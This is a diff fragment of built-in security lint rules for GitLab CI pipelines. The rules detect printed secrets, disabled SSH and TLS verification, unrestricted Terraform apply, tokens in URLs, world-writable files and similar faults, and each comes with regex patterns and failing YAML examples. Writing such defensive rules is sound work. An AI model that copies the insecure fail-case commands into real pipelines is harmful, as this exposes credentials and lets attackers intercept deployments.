+          `*PRIVATE_KEY*`) whose output is neither piped nor redirected.
+        """
+        remediation "Pipe the secret to the command that needs it (`echo \"$TOKEN\" | docker login --password-stdin`), write it to a file (`> .npmrc`), or print only that it is set (`test -n \"$TOKEN\" && echo token set`)."
+        param printed: pattern = "^\\s*(echo|printf)\\b[^|>;&]*?\\$\\{?(?![A-Z0-9_]*_(URL|FILE|PATH|NAME|ID|TYPE|USER|USERNAME|HEADER|SCOPE|ENDPOINT|DIR|LENGTH|TTL|EXPIRES_AT|EXPIRY|SET)\\b)[A-Z0-9_]*(TOKEN|PASSWORD|PASSWD|SECRET|API_KEY|APIKEY|PRIVATE_KEY|ACCESS_KEY)[A-Z0-9_]*\\}?(?>[^|>]*)$"
+
+        for j in gitlab.job
+        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.printed))
+        require count(lines) == 0
+          else "job '${j.name}' prints a secret to the job log: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.printed)))}'" at first(lines)
+
+        example pass """
+          login:
+            script:
+              - echo "$CI_REGISTRY_PASSWORD" | docker login -u "$CI_REGISTRY_USER" --password-stdin "$CI_REGISTRY"
+              - echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > .npmrc
+              - echo "Token URL is $TOKEN_URL"
+              - test -n "$API_TOKEN" && echo "API token set"
+        """
+        example fail "echo" """
+          debug:
+            script:
+              - ↓echo "deploying with $DEPLOY_TOKEN"
+        """ expect "job 'debug' prints a secret to the job log: 'echo \"deploying with $DEPLOY_TOKEN\"'"
+        example fail "printf, braces" """
+          debug:
+            script:
+              - ↓printf '%s\n' "${DB_PASSWORD}"
+          keys:
+            script:
+              - ↓|
+                set -e
+                echo $AWS_SECRET_ACCESS_KEY
+        """ expect "job 'debug'" expect "job 'keys'"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/security_scan_allow_failure.plumb",
+      text: #"""
+      rule security_scan_allow_failure {
+        title "Security scanning jobs can fail the pipeline"
+        severity low
+        category security
+        tags [gitlab-ci, flow-control, scanning]
+        rationale """
+          A secret-detection, SAST, dependency, container or IaC scanning job with `allow_failure: true`
+          lets the pipeline (and the merge) go on whatever it finds, and when the scanner itself breaks:
+          the check is shown but enforces nothing, and a leaked key or a vulnerable dependency reaches the
+          default branch. Reported: jobs named like a scanner (`sast`, `secret_detection`, `gitleaks`,
+          `trufflehog`, `semgrep`, `trivy`, `grype`, `dependency_scanning`, `container_scanning`, `kics`,
+          `checkov`, `tfsec`, `bandit`, `brakeman`, `gosec`, …, directly or through `extends`) with
+          `allow_failure: true`. GitLab's own scanning templates (which are not fetched) set it; a job
+          that overrides it with `false` passes.
+        """
+        remediation "Set `allow_failure: false` on the scanning job (or `allow_failure: {exit_codes: [..]}` for the scanner's exit code that means \"could not run\"), and make the scan a required check through merge request approval policies."
+        param scanner: pattern = "(?i)(^|[._:/ -])(sast|secret[_-]?detection|secrets?[_-]?scan\\w*|dependency[_-]scanning|container[_-]scanning|dast|gitleaks|trufflehog|detect[_-]secrets|semgrep|trivy|grype|snyk|kics|checkov|tfsec|terrascan|bandit|brakeman|gosec|gemnasium|iac[_-]scanning|license[_-]scanning|osv[_-]scanner|dependency[_-]check)([._:/ -]|$)"
+
+        for j in gitlab.job
+        when any(n in flatten([[j.name], default(j.extends_chain, [])]), to_string(n) matches param.scanner)
+        require default(j.allow_failure, false) != true
+          else "security scanning job '${j.name}' has allow_failure: true: what it finds never stops the pipeline" at j.allow_failure
+
+        example pass """
+          secret_detection:
+            allow_failure: false
+            script: [gitleaks detect]
+          unit:
+            allow_failure: true
+            script: [make test]
+          trivy-scan:
+            allow_failure:
+              exit_codes: [2]
+            script: [trivy fs --exit-code 1 .]
+        """
+        example fail "name" """
+          gitleaks:
+            allow_failure: ↓true
+            script: [gitleaks detect --source .]
+        """ expect "security scanning job 'gitleaks' has allow_failure: true"
+        example fail "through extends" """
+          .semgrep-base:
+            allow_failure: ↓true
+            script: [semgrep ci]
+          code-quality:
+            extends: .semgrep-base
+          sast:
+            allow_failure: ↓true
+            script: [./scan.sh]
+        """ expect "security scanning job 'code-quality'" expect "security scanning job 'sast'"
+      }
+
+      """#),
+    PolicySource(
       path: "rules/security/gitlab/services_pinned_by_digest.plumb",
       text: #"""
       rule services_pinned_by_digest {
@@ -5146,6 +6516,421 @@ extension BuiltinPolicies {
             services: [↓postgres]
             script: [rake]
         """ expect "job 'test' starts service 'postgres', a moving 'latest' image"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/ssh_host_key_checking_disabled.plumb",
+      text: #"""
+      rule ssh_host_key_checking_disabled {
+        title "SSH connections check the server's host key"
+        severity medium
+        category security
+        tags [gitlab-ci, insecure-configuration, ssh]
+        rationale """
+          `-o StrictHostKeyChecking=no`, `UserKnownHostsFile=/dev/null` (in `ssh`, `scp`, `rsync -e`,
+          `GIT_SSH_COMMAND`, a written `~/.ssh/config`) and `ANSIBLE_HOST_KEY_CHECKING: "False"` accept
+          whichever server answers: whoever can redirect the connection (DNS, a compromised router, a
+          cloud IP reassigned to someone else) receives the deployment, the SSH key's session and every
+          secret sent through it.
+        """
+        remediation "Store the server's host key in a CI/CD variable (`SSH_KNOWN_HOSTS`, from `ssh-keyscan` run once and checked) and write it to `~/.ssh/known_hosts`; keep `StrictHostKeyChecking yes`."
+        param disabled: pattern = "(?i)(StrictHostKeyChecking[\\s=]+[\"']?(no|off|false)\\b|UserKnownHostsFile[\\s=]+[\"']?/dev/null\\b|ANSIBLE_HOST_KEY_CHECKING=[\"']?(false|0|no)\\b|--ssh-common-args[= ][\"']?[^\\n]*StrictHostKeyChecking)"
+
+        for j in gitlab.job
+        let pipeline = first(j -> inPipeline)
+        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.disabled))
+        let vars = filter(k in keys(default(j.variables, {})), k + "=" + to_string(default(default(j.variables[k].value, j.variables[k]), "")) matches param.disabled)
+        let global_vars = filter(k in keys(default(pipeline.variables, {})), not exists(j.variables[k])
+          and k + "=" + to_string(default(default(pipeline.variables[k].value, pipeline.variables[k]), "")) matches param.disabled)
+        require count(lines) == 0
+          else "job '${j.name}' connects over SSH without checking the host key: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.disabled)))}'" at first(lines)
+        require count(vars) == 0
+          else "job '${j.name}' sets ${first(vars)} so that SSH does not check host keys" at default(j.variables[first(vars)].value, j.variables[first(vars)])
+        require count(global_vars) == 0
+          else "job '${j.name}' runs with ${first(global_vars)} from the pipeline's variables, so SSH does not check host keys" at default(pipeline.variables[first(global_vars)].value, pipeline.variables[first(global_vars)])
+
+        example pass """
+          deploy:
+            script:
+              - echo "$SSH_KNOWN_HOSTS" >> ~/.ssh/known_hosts
+              - ssh -o StrictHostKeyChecking=yes deploy@app.example.com ./release.sh
+        """
+        example fail "ssh option, GIT_SSH_COMMAND, ssh config" """
+          deploy:
+            script:
+              - ↓ssh -o StrictHostKeyChecking=no deploy@app.example.com ./release.sh
+          sync:
+            variables:
+              GIT_SSH_COMMAND: ↓"ssh -o UserKnownHostsFile=/dev/null -o StrictHostKeyChecking=no"
+            script: [git fetch]
+          config:
+            script:
+              - ↓|
+                mkdir -p ~/.ssh
+                printf "Host *\n  StrictHostKeyChecking no\n" > ~/.ssh/config
+        """ expect "job 'deploy' connects over SSH without checking the host key" expect "job 'sync' sets GIT_SSH_COMMAND" expect "job 'config'"
+        example fail "ansible" """
+          variables:
+            ANSIBLE_HOST_KEY_CHECKING: ↓"False"
+          provision:
+            script: [ansible-playbook site.yml]
+        """ expect "job 'provision' runs with ANSIBLE_HOST_KEY_CHECKING from the pipeline's variables"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/terraform_apply_unrestricted.plumb",
+      text: #"""
+      rule terraform_apply_unrestricted {
+        title "Terraform apply runs only for the default branch, protected refs or tags"
+        severity high
+        category security
+        tags [gitlab-ci, deployment, flow-control, terraform]
+        rationale """
+          `terraform apply` (or `gitlab-terraform apply`, `terragrunt apply`, `tofu apply`) changes real
+          infrastructure with the cloud credentials the job holds. Without `rules:` or `only:` that
+          limit it to the default branch, protected refs or tags it applies whatever configuration any
+          pushed branch or merge request contains, before review. Rules with `when: never` exclude and
+          are not counted; every other rule must require the default branch, a protected ref or a tag.
+        """
+        remediation "Plan in branch and merge-request pipelines; apply only with `rules: [{if: '$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH', when: manual}]` and a protected environment."
+        param apply: pattern = "(?i)\\b(terraform|tofu|terragrunt|gitlab-terraform|terraform\\.exe)\\s++(?:-\\S++\\s++)*+(apply|destroy|run-all\\s++apply)\\b"
+        param restricted: pattern = "(?i)(\\$CI_COMMIT_(BRANCH|REF_NAME)\\s*==\\s*\\$CI_DEFAULT_BRANCH|\\$CI_DEFAULT_BRANCH\\s*==\\s*\\$CI_COMMIT_(BRANCH|REF_NAME)|\\$CI_COMMIT_REF_PROTECTED\\s*==\\s*[\"']?true|\\$CI_COMMIT_TAG\\b(?!\\s*==\\s*(null|\"\"|''))|\\$CI_COMMIT_(BRANCH|REF_NAME)\\s*==\\s*[\"']?(main|master|production|stable)[\"']?)"
+        param restricted_only: pattern = "^(main|master|production|stable|tags)$"
+
+        for j in gitlab.job
+        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.apply and not (x matches "^\\s*#")))
+        when count(lines) > 0
+        let runs = filter(r in j.rules_list, to_string(default(r.when, "")) != "never")
+        let loose = filter(r in runs, not (exists(r["if"])
+          and all(part in split(to_string(r["if"]), "||"), part matches param.restricted)))
+        let only = default(j.only.refs, j.only)
+        let only_ok = count(default(only, [])) > 0 and all(o in only, to_string(o) matches param.restricted_only)
+        require (count(j.rules_list) > 0 and count(loose) == 0) or (count(j.rules_list) == 0 and only_ok)
+          else "job '${j.name}' applies Terraform for any branch or merge request: nothing limits it to the default branch, protected refs or tags" at first(lines)
+
+        example pass """
+          plan:
+            script: [terraform plan -out plan.cache]
+          apply:
+            rules:
+              - if: $CI_PIPELINE_SOURCE == "merge_request_event"
+                when: never
+              - if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH
+                when: manual
+            script: [terraform apply -auto-approve plan.cache]
+        """
+        example fail "no rules" """
+          apply:
+            stage: deploy
+            script:
+              - terraform init
+              - ↓terraform -chdir=infra apply -auto-approve
+        """ expect "job 'apply' applies Terraform for any branch or merge request"
+        example fail "merge request rule, gitlab-terraform, destroy" """
+          apply:
+            rules:
+              - if: $CI_MERGE_REQUEST_IID
+            script:
+              - ↓gitlab-terraform apply
+          cleanup:
+            when: manual
+            script:
+              - ↓tofu destroy -auto-approve
+        """ expect "job 'apply' applies Terraform" expect "job 'cleanup' applies Terraform"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/tls_verification_disabled_by_variable.plumb",
+      text: #"""
+      rule tls_verification_disabled_by_variable {
+        title "CI/CD variables do not switch off TLS certificate checks"
+        severity high
+        category security
+        tags [gitlab-ci, insecure-configuration, tls]
+        rationale """
+          `GIT_SSL_NO_VERIFY` (the runner's own clone and fetches too), `NODE_TLS_REJECT_UNAUTHORIZED:
+          "0"`, `PYTHONHTTPSVERIFY: "0"`, `NPM_CONFIG_STRICT_SSL: "false"`, `YARN_STRICT_SSL`,
+          `GOINSECURE`, `GOFLAGS=-insecure`, `HELM_INSECURE_SKIP_TLS_VERIFY`, empty
+          `CURL_CA_BUNDLE`/`REQUESTS_CA_BUNDLE` and `PIP_TRUSTED_HOST` make every tool of the job accept
+          any certificate: whoever sits on the network path (a proxy, a rogue Wi-Fi of a self-hosted
+          runner, a poisoned DNS entry) serves the source, packages and images the job builds, and reads
+          the credentials it sends. Reported in the pipeline's and the jobs' `variables:`.
+        """
+        remediation "Remove the variable and give the tools the certificate authority they need (`CI_SERVER_TLS_CA_FILE`, `SSL_CERT_FILE`, `NODE_EXTRA_CA_CERTS`, `GIT_SSL_CAINFO`)."
+        param insecure: pattern = "(?i)^(GIT_SSL_NO_VERIFY=(?!(0|false|no)?$).*|NODE_TLS_REJECT_UNAUTHORIZED=0|PYTHONHTTPSVERIFY=0|(NPM|YARN)_CONFIG_STRICT_SSL=(false|0)|YARN_STRICT_SSL=(false|0)|GOINSECURE=.+|GOFLAGS=.*-insecure.*|(CURL_CA_BUNDLE|REQUESTS_CA_BUNDLE)=|PIP_TRUSTED_HOST=.+|HELM_INSECURE_SKIP_TLS_VERIFY=(true|1))$"
+
+        for j in gitlab.job
+        let pipeline = first(j -> inPipeline)
+        let job_bad = filter(k in keys(default(j.variables, {})),
+          k + "=" + trim(to_string(default(default(j.variables[k].value, j.variables[k]), ""))) matches param.insecure)
+        let global_bad = filter(k in keys(default(pipeline.variables, {})), not exists(j.variables[k])
+          and k + "=" + trim(to_string(default(default(pipeline.variables[k].value, pipeline.variables[k]), ""))) matches param.insecure)
+        require count(job_bad) == 0
+          else "job '${j.name}' sets ${first(job_bad)}, which switches off TLS certificate checks" at default(j.variables[first(job_bad)].value, j.variables[first(job_bad)])
+        require count(global_bad) == 0
+          else "job '${j.name}' runs with ${first(global_bad)} from the pipeline's variables, which switches off TLS certificate checks" at default(pipeline.variables[first(global_bad)].value, pipeline.variables[first(global_bad)])
+
+        example pass """
+          variables:
+            GIT_SSL_NO_VERIFY: "false"
+            NODE_EXTRA_CA_CERTS: /etc/ssl/corp-ca.pem
+            NODE_TLS_REJECT_UNAUTHORIZED: "1"
+          build:
+            script: [npm ci]
+        """
+        example fail "job" """
+          build:
+            variables:
+              GIT_SSL_NO_VERIFY: ↓"1"
+              NPM_CONFIG_STRICT_SSL: "false"
+            script: [npm ci]
+        """ expect "job 'build' sets GIT_SSL_NO_VERIFY, which switches off TLS certificate checks"
+        example fail "global" """
+          variables:
+            NODE_TLS_REJECT_UNAUTHORIZED:
+              value: ↓"0"
+          build:
+            script: [npm ci]
+        """ expect "job 'build' runs with NODE_TLS_REJECT_UNAUTHORIZED from the pipeline's variables"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/tls_verification_disabled_in_script.plumb",
+      text: #"""
+      rule tls_verification_disabled_in_script {
+        title "Job scripts do not switch off TLS certificate checks"
+        severity high
+        category security
+        tags [gitlab-ci, insecure-configuration, tls]
+        rationale """
+          `curl -k`/`--insecure`, `wget --no-check-certificate`, `git -c http.sslVerify=false` (or
+          `git config http.sslVerify false`), `npm`/`yarn config set strict-ssl false`, `pip
+          --trusted-host`, `kubectl`/`helm --insecure-skip-tls-verify`, `--tls-verify=false`
+          (podman, buildah, skopeo), kaniko's `--skip-tls-verify`, `aws --no-verify-ssl` and exported
+          `NODE_TLS_REJECT_UNAUTHORIZED=0`/`GIT_SSL_NO_VERIFY` accept any certificate: whoever sits on the
+          network path serves the code, packages and images, and reads the credentials sent.
+        """
+        remediation "Keep verification on and give the tool the certificate authority it needs (`--cacert`, `--ca-certificate`, `http.sslCAInfo`, `SSL_CERT_FILE`, `NODE_EXTRA_CA_CERTS`)."
+        param insecure: pattern = "(\\bcurl\\b[^|;\\n]*\\s(-[a-zA-Z]*k[a-zA-Z]*|--insecure)(\\s|$)|\\bwget\\b[^|;\\n]*\\s--no-check-certificate\\b|\\bgit\\b[^|;\\n]*\\bhttp\\.sslVerify(=|\\s+)[\"']?(false|0|no)\\b|\\b(npm|yarn|pnpm)\\s+config\\s+set\\s+strict-ssl\\s+(false|0)\\b|\\bpip3?\\b[^|;\\n]*\\s--trusted-host\\b|--insecure-skip-tls-verify(=true)?\\b(?!=false)|--tls-verify[= ]false\\b|--skip-tls-verify(-pull|-registry)?\\b|\\baws\\b[^|;\\n]*\\s--no-verify-ssl\\b|\\bexport\\s+(NODE_TLS_REJECT_UNAUTHORIZED=[\"']?0|GIT_SSL_NO_VERIFY=[\"']?(1|true|yes))\\b)"
+
+        for j in gitlab.job
+        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.insecure and not (x matches "^\\s*#")))
+        require count(lines) == 0
+          else "job '${j.name}' switches off TLS certificate checks: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.insecure)))}'" at first(lines)
+
+        example pass """
+          fetch:
+            script:
+              - curl -fsSL --cacert /etc/ssl/corp-ca.pem https://example.com/tool.tgz -o tool.tgz
+              - wget -q https://example.com/a.tgz
+              - git config --global http.sslCAInfo /etc/ssl/corp-ca.pem
+              - kubectl --insecure-skip-tls-verify=false get pods
+              - curl -X POST -H "Content-Type: application/json" https://example.com/hook
+        """
+        example fail "curl and wget" """
+          fetch:
+            script:
+              - ↓curl -sSkL https://example.com/tool.tgz -o tool.tgz
+          get:
+            script:
+              - ↓wget --no-check-certificate https://example.com/a.tgz
+        """ expect "job 'fetch' switches off TLS certificate checks: 'curl -sSkL https://example.com/tool.tgz -o tool.tgz'" expect "job 'get'"
+        example fail "git, npm, kubectl, podman, export" """
+          a:
+            script: [↓git -c http.sslVerify=false clone https://git.example.com/app.git]
+          b:
+            script: [↓npm config set strict-ssl false]
+          c:
+            script: [↓kubectl --insecure-skip-tls-verify apply -f k8s/]
+          d:
+            script: [↓podman push --tls-verify=false img registry.local/img]
+          e:
+            script: [↓export NODE_TLS_REJECT_UNAUTHORIZED=0]
+        """ expect "job 'a'" expect "job 'b'" expect "job 'c'" expect "job 'd'" expect "job 'e'"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/token_in_url_query.plumb",
+      text: #"""
+      rule token_in_url_query {
+        title "Tokens are not sent in URL query strings"
+        severity low
+        category security
+        tags [gitlab-ci, secrets, credentials]
+        rationale """
+          A token in a URL's query string (`?private_token=$TOKEN`, `&access_token=…`, `?api_key=…`) is
+          written to web server and proxy access logs, kept in browser-style histories of tools, and
+          shown in error messages that echo the URL, where masking of the job log does not reach. Every
+          API GitLab and most services offer reads it from a header instead.
+        """
+        remediation "Send the token in a header: `curl --header \"PRIVATE-TOKEN: $TOKEN\" …` (or `JOB-TOKEN`, `Authorization: Bearer`)."
+        param query: pattern = "(?i)(://|\\$\\{?\\w*URL\\}?)[^\\s\"']*[?&](private_token|job_token|access_token|auth_token|token|api_key|apikey|password|secret)=\\$"
+
+        for j in gitlab.job
+        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.query))
+        require count(lines) == 0
+          else "job '${j.name}' sends a token in a URL's query string, which access logs keep: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.query)))}'" at first(lines)
+
+        example pass """
+          api:
+            script:
+              - 'curl --header "PRIVATE-TOKEN: $API_TOKEN" "$CI_API_V4_URL/projects?per_page=100"'
+              - curl "https://example.com/search?q=$QUERY"
+        """
+        example fail """
+          api:
+            script:
+              - ↓curl "$CI_API_V4_URL/projects/1/jobs?private_token=$API_TOKEN"
+          status:
+            script:
+              - ↓wget -q "https://status.example.com/report?ref=main&API_KEY=${STATUS_KEY}"
+        """ expect "job 'api' sends a token in a URL's query string" expect "job 'status'"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/tool_installed_at_latest.plumb",
+      text: #"""
+      rule tool_installed_at_latest {
+        title "Job scripts install tools at a fixed version"
+        severity low
+        category security
+        tags [gitlab-ci, supply-chain]
+        rationale """
+          `go install example.com/tool@latest`, `npx tool@latest`, `npm install -g tool@latest`,
+          `pipx install tool` without a version, `cargo install tool` without `--version` (or `--locked`
+          pins), `gem install tool` without `-v` and `dotnet tool install` without `--version` run
+          whatever the package's owner published last, with the job's variables and credentials: a
+          hijacked maintainer account or a malicious release reaches the pipeline on its next run.
+          Reported: the `@latest` spellings, which pin nothing by design.
+        """
+        remediation "Pin the version (`go install example.com/tool@v1.4.2`, `npx tool@3.2.1`), or better bake the tool into a digest-pinned job image."
+        param latest: pattern = "\\b(go\\s+(install|run|get)|npx|pnpm\\s+dlx|bunx|yarn\\s+dlx|npm\\s+(install|i|exec)|pnpm\\s+add|yarn\\s+(global\\s+)?add|deno\\s+(install|run))\\b[^\\n|;]*@(latest|next|main|master|HEAD)\\b"
+
+        for j in gitlab.job
+        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.latest and not (x matches "^\\s*#")))
+        require count(lines) == 0
+          else "job '${j.name}' installs a tool at whatever version is newest: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.latest)))}'" at first(lines)
+
+        example pass """
+          lint:
+            script:
+              - go install golang.org/x/vuln/cmd/govulncheck@v1.1.3
+              - npx prettier@3.3.3 --check .
+              - docker pull alpine:latest
+        """
+        example fail "go and npx" """
+          lint:
+            script:
+              - ↓go install golang.org/x/vuln/cmd/govulncheck@latest
+          fmt:
+            script:
+              - ↓npx --yes prettier@latest --check .
+        """ expect "job 'lint' installs a tool at whatever version is newest: 'go install golang.org/x/vuln/cmd/govulncheck@latest'" expect "job 'fmt'"
+        example fail "npm global and pnpm dlx" """
+          a:
+            script: [↓npm install -g @angular/cli@next]
+          b:
+            script: [↓pnpm dlx create-thing@latest]
+        """ expect "job 'a'" expect "job 'b'"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/trigger_forwards_pipeline_variables.plumb",
+      text: #"""
+      rule trigger_forwards_pipeline_variables {
+        title "Trigger jobs do not forward pipeline variables downstream"
+        severity low
+        category security
+        tags [gitlab-ci, pbac]
+        rationale """
+          `trigger: forward: pipeline_variables: true` passes the variables given when the pipeline was
+          created (a manual run, the API, a trigger token, a schedule) to the downstream pipeline, where
+          they take precedence over the downstream configuration's own variables. Whoever may run this
+          project's pipelines then sets variables (deploy targets, image names, `CI_DEBUG_TRACE`) in
+          another project's pipeline, with that project's credentials, though they may have no rights
+          there.
+        """
+        remediation "Drop `forward: pipeline_variables: true` and pass the values the downstream needs explicitly in the trigger job's `variables:`, where they are reviewed."
+
+        for j in gitlab.job
+        when exists(j.trigger)
+        require default(j.trigger.forward.pipeline_variables, false) != true
+          else "trigger job '${j.name}' forwards pipeline variables to ${default("project '" + j.trigger.project + "'", "its child pipeline")}: whoever runs this pipeline sets variables there" at j.trigger.forward.pipeline_variables
+
+        example pass """
+          downstream:
+            trigger:
+              project: acme/deployer
+              forward:
+                yaml_variables: true
+                pipeline_variables: false
+            variables:
+              TARGET: staging
+        """
+        example fail """
+          downstream:
+            trigger:
+              project: acme/deployer
+              branch: main
+              forward:
+                pipeline_variables: ↓true
+          child:
+            trigger:
+              include: ci/child.yml
+              forward: {pipeline_variables: ↓true}
+        """ expect "trigger job 'downstream' forwards pipeline variables to project 'acme/deployer'" expect "trigger job 'child' forwards pipeline variables to its child pipeline"
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/gitlab/world_writable_permissions.plumb",
+      text: #"""
+      rule world_writable_permissions {
+        title "Job scripts do not make files writable by everyone"
+        severity low
+        category security
+        tags [gitlab-ci, insecure-configuration]
+        rationale """
+          `chmod 777`, `chmod -R a+w`, `o+w` or `umask 000` let every user and process on the runner (on
+          shell and shared-host executors: other jobs and projects; in containers: any unprivileged
+          process of the image) change the files: scripts, binaries and build outputs that later steps
+          or jobs execute or publish can be replaced between write and use.
+        """
+        remediation "Give only the owner (or group) the rights needed: `chmod 755` for executables, `chmod 600` for keys, `chmod u+w` instead of `a+w`."
+        param writable: pattern = "(\\bchmod\\s+(-[a-zA-Z]+\\s+)*(0?[0-7]?[0-7][0-7][2367]|([ugo]*a[ugo]*|[ugo]*o[ugo]*)[+=][rwxXst]*w[rwxXst]*)(\\s|,|$)|\\bumask\\s+0?[0-7]?[0-7]?[0145]\\b)"
+
+        for j in gitlab.job
+        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.writable))
+        require count(lines) == 0
+          else "job '${j.name}' makes files writable by everyone: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.writable)))}'" at first(lines)
+
+        example pass """
+          build:
+            script:
+              - chmod 755 ./bin/tool
+              - chmod 600 ~/.ssh/id_ed25519
+              - chmod -R u+w vendor/
+              - chmod +x deploy.sh
+              - umask 022
+        """
+        example fail "octal and symbolic" """
+          build:
+            script:
+              - ↓chmod -R 777 .
+          setup:
+            script:
+              - ↓chmod a+rwx /opt/tools/run.sh
+          perms:
+            script:
+              - ↓umask 000
+        """ expect "job 'build' makes files writable by everyone: 'chmod -R 777 .'" expect "job 'setup'" expect "job 'perms'"
       }
 
       """#),
